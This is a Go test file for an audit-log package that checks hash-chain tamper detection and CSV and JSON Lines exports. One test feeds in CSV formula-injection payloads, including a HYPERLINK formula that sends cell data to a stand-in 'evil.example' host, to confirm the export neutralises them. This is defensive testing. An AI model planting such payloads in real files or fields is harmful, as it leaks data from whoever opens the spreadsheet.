package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/regio-mgz/mgz"
	"github.com/regio-mgz/mgz/csvsafe"
)

func chain(n int) []mgz.AuditEntry {
	var out []mgz.AuditEntry
	prevID, prevHash := int64(0), Genesis
	for i := 0; i < n; i++ {
		e := mgz.AuditEntry{At: time.Date(2026, 11, 23, 10, 0, i, 123456789, time.UTC), UserID: 7, UserEmail: "a@b.nl",
			OrganisationID: 3, Roles: "admin", Action: mgz.AuditUpdate, ObjectType: "location", ObjectID: int64(i + 1),
			ObjectOrganisationID: 3, Outcome: mgz.OutcomeAllowed, ClientAddress: "127.0.0.1"}
		Seal(&e, prevID, prevHash)
		prevID, prevHash = e.ID, e.Hash
		out = append(out, e)
	}
	return out
}

func verify(es []mgz.AuditEntry, headID int64, headHash string) error {
	v := NewVerifier()
	for _, e := range es {
		if err := v.Check(e); err != nil {
			return err
		}
	}
	return v.Finish(headID, headHash)
}

func brokenAt(t *testing.T, err error, id int64) {
	t.Helper()
	var b *BrokenError
	if !errors.As(err, &b) || b.ID != id {
		t.Fatalf("error = %v, want the chain broken at row %d", err, id)
	}
}

func TestChainDetectsEveryKindOfTampering(t *testing.T) {
	es := chain(5)
	head := es[4]
	if err := verify(es, head.ID, head.Hash); err != nil {
		t.Fatalf("intact chain: %v", err)
	}
	if es[0].At.Nanosecond() != 123000000 {
		t.Errorf("moment not truncated to milliseconds: %v", es[0].At)
	}

	t.Run("a changed field", func(t *testing.T) {
		c := append([]mgz.AuditEntry(nil), es...)
		c[2].Outcome = mgz.OutcomeDenied
		brokenAt(t, verify(c, head.ID, head.Hash), 3)
	})
	t.Run("a changed field with a recomputed hash", func(t *testing.T) {
		c := append([]mgz.AuditEntry(nil), es...)
		c[2].UserEmail = "ander@b.nl"
		c[2].Hash = Sum(c[2])
		brokenAt(t, verify(c, head.ID, head.Hash), 4)
	})
	t.Run("a deleted row", func(t *testing.T) {
		c := append(append([]mgz.AuditEntry(nil), es[:1]...), es[2:]...)
		brokenAt(t, verify(c, head.ID, head.Hash), 2) // the missing row is named
	})
	t.Run("the newest row deleted", func(t *testing.T) {
		brokenAt(t, verify(es[:4], head.ID, head.Hash), 5)
	})
	t.Run("rows swapped", func(t *testing.T) {
		c := append([]mgz.AuditEntry(nil), es...)
		c[1], c[2] = c[2], c[1]
		brokenAt(t, verify(c, head.ID, head.Hash), 2)
	})
}

func TestExportFormats(t *testing.T) {
	es := chain(2)
	var csvBuf, jsonBuf bytes.Buffer
	w, err := NewCSVWriter(&csvBuf)
	if err != nil {
		t.Fatal(err)
	}
	j := NewJSONLinesWriter(&jsonBuf)
	for _, e := range es {
		w.Write(e)
		j.Write(e)
	}
	w.Flush()
	lines := strings.Split(strings.TrimSpace(csvBuf.String()), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "id,at,user_id") || !strings.Contains(lines[1], "2026-11-23T10:00:00.123Z") {
		t.Fatalf("csv:\n%s", csvBuf.String())
	}
	if n := strings.Count(jsonBuf.String(), "\n"); n != 2 || !strings.Contains(jsonBuf.String(), `"hash":"`+es[1].Hash+`"`) {
		t.Fatalf("json lines:\n%s", jsonBuf.String())
	}
}

// TestCSVExportNeutralisesFormulasAndJSONLinesKeepsTheExactText: an e-mail typed at the login
// form lands in the export; in CSV it must not be a live formula, in JSON Lines it stays exact.
func TestCSVExportNeutralisesFormulasAndJSONLinesKeepsTheExactText(t *testing.T) {
	typed := []string{`=HYPERLINK("https://evil.example?d="&A1,"klik")@a.nl`, "+1@a.nl", "-1@a.nl", "@x@a.nl", "\t=1@a.nl", "\r=1@a.nl"}
	var es []mgz.AuditEntry
	prev, id := Genesis, int64(0)
	for _, s := range typed {
		e := mgz.AuditEntry{At: time.Date(2026, 11, 30, 15, 0, 0, 0, time.UTC), UserEmail: s, Action: mgz.AuditLoginFailed,
			Outcome: mgz.OutcomeDenied, Reason: s, ClientAddress: "192.0.2.1"}
		Seal(&e, id, prev)
		id, prev = e.ID, e.Hash
		es = append(es, e)
	}
	var csvBuf, jsonBuf bytes.Buffer
	w, err := NewCSVWriter(&csvBuf)
	if err != nil {
		t.Fatal(err)
	}
	j := NewJSONLinesWriter(&jsonBuf)
	for _, e := range es {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
		if err := j.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&csvBuf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for i, e := range es {
		row := rows[i+1]
		for _, name := range []string{"user_email", "reason"} {
			cell := row[col[name]]
			if cell != "'"+typed[i] {
				t.Errorf("CSV %s of entry %d = %q, want %q", name, e.ID, cell, "'"+typed[i])
			}
			if csvsafe.Restore(cell) != typed[i] {
				t.Errorf("CSV %s of entry %d does not restore to the typed text", name, e.ID)
			}
		}
	}
	dec := json.NewDecoder(&jsonBuf)
	for i := range es {
		var got mgz.AuditEntry
		if err := dec.Decode(&got); err != nil {
			t.Fatal(err)
		}
		if got.UserEmail != typed[i] || got.Reason != typed[i] {
			t.Errorf("JSON Lines entry %d: e-mail %q, reason %q; want the exact typed text %q", i, got.UserEmail, got.Reason, typed[i])
		}
		if Sum(got) != got.Hash {
			t.Errorf("JSON Lines entry %d no longer matches its hash", i)
		}
	}
}
